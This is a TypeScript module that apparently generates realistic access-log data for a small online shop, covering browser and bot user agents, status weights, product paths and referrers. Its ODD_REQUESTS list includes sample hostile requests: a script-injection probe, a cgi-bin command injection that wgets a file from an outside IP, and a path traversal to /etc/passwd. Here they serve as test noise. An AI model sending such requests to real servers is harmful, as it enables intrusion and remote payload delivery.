import { weighted } from "./random.ts";

// What a small shop with an API sees. Chrome, Firefox and Safari freeze most of their User-Agent, so few forms with
// changing versions are what real logs hold.

const MACHINES = [
  "Windows NT 10.0; Win64; x64",
  "Macintosh; Intel Mac OS X 10_15_7",
  "X11; Linux x86_64",
  "Linux; Android 10; K",
  "X11; CrOS x86_64 14541.0.0",
];

const CHROMES = MACHINES.flatMap((machine) =>
  Array.from({ length: 12 }, (_, i) => {
    const phone = machine.includes("Android") ? " Mobile" : "";
    return `Mozilla/5.0 (${machine}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${120 + i}.0.0.0${phone} Safari/537.36`;
  }),
);
const EDGES = CHROMES.slice(0, 24).map((agent, i) => `${agent} Edg/${120 + (i % 12)}.0.${2210 + i}.61`);
const FIREFOXES = MACHINES.slice(0, 3).flatMap((machine) =>
  Array.from({ length: 10 }, (_, i) => `Mozilla/5.0 (${machine}; rv:${121 + i}.0) Gecko/20100101 Firefox/${121 + i}.0`),
);
const SAFARIS = Array.from(
  { length: 10 },
  (_, i) =>
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_${i} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.${i} Mobile/15E148 Safari/604.1`,
);
const ROBOTS = [
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
  "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
  "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
];
const TOOLS = [
  "curl/7.88.1",
  "Go-http-client/1.1",
  "python-requests/2.31.0",
  "okhttp/4.12.0",
  "Prometheus/2.48.1",
  "kube-probe/1.28",
  "ELB-HealthChecker/2.0",
  "Wget/1.21.3",
  "-",
  'Mozilla/5.0 "quoted" zgrab/0.x',
];

const repeated = (times: number, agents: readonly string[]): readonly string[] => Array(times).fill(agents).flat();

export const AGENTS = [
  ...CHROMES,
  ...EDGES,
  ...repeated(2, FIREFOXES),
  ...repeated(2, SAFARIS),
  ...repeated(5, ROBOTS),
  ...repeated(5, TOOLS),
];

export const METHODS = weighted([84, "GET"], [10, "POST"], [2, "PUT"], [1, "DELETE"], [2, "HEAD"], [1, "OPTIONS"]);
export const PROTOCOLS = weighted([14, "HTTP/1.1"], [5, "HTTP/2.0"], [1, "HTTP/1.0"]);
export const STATUSES = weighted(
  [150, 200],
  [4, 201],
  [4, 204],
  [2, 206],
  [5, 301],
  [6, 302],
  [12, 304],
  [2, 400],
  [3, 401],
  [2, 403],
  [8, 404],
  [1, 429],
  [1, 499],
  [1, 500],
  [2, 502],
  [1, 503],
);
export const USERS = weighted([60, "-"], [1, "noah"], [1, "ana.souza"], [1, "deploy"], [1, "svc-report"]);

export const WORDS = [
  "running-shoes",
  "trail-jacket",
  "wool-socks",
  "winter-sale",
  "gift-cards",
  "headlamp-400",
  "camp-stove",
  "tent-2p",
  "sleeping-bag",
  "rain-cover",
  "daypack-20l",
  "water-filter",
  "climbing-rope",
  "chalk-bag",
  "carabiner-set",
  "returns-policy",
];
export const SITES = [
  "https://www.google.com/",
  "https://www.bing.com/search?q=hiking+boots",
  "https://duckduckgo.com/",
  "https://t.co/Xh2kLm09aQ",
  "https://news.ycombinator.com/item?id=38912345",
  "android-app://com.google.android.googlequicksearchbox/",
];
/** Requests that no browser sends: scanners, TLS on a plain port, closed and cut connections. */
export const ODD_REQUESTS = [
  "",
  "-",
  "\x16\x03\x01\x02\x00\x01\x00\x01\x03\x03",
  'GET /?x="onload=alert(1)" HTTP/1.1',
  "GET /cgi-bin/;cd${IFS}/tmp;wget${IFS}http://203.0.113.9/a HTTP/1.0",
  "PRI * HTTP/2.0",
  "OPTIONS * HTTP/1.1",
  "CONNECT example.com:443 HTTP/1.1",
  "GET /%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd HTTP/1.1",
  "\\x00\\x0e8",
];
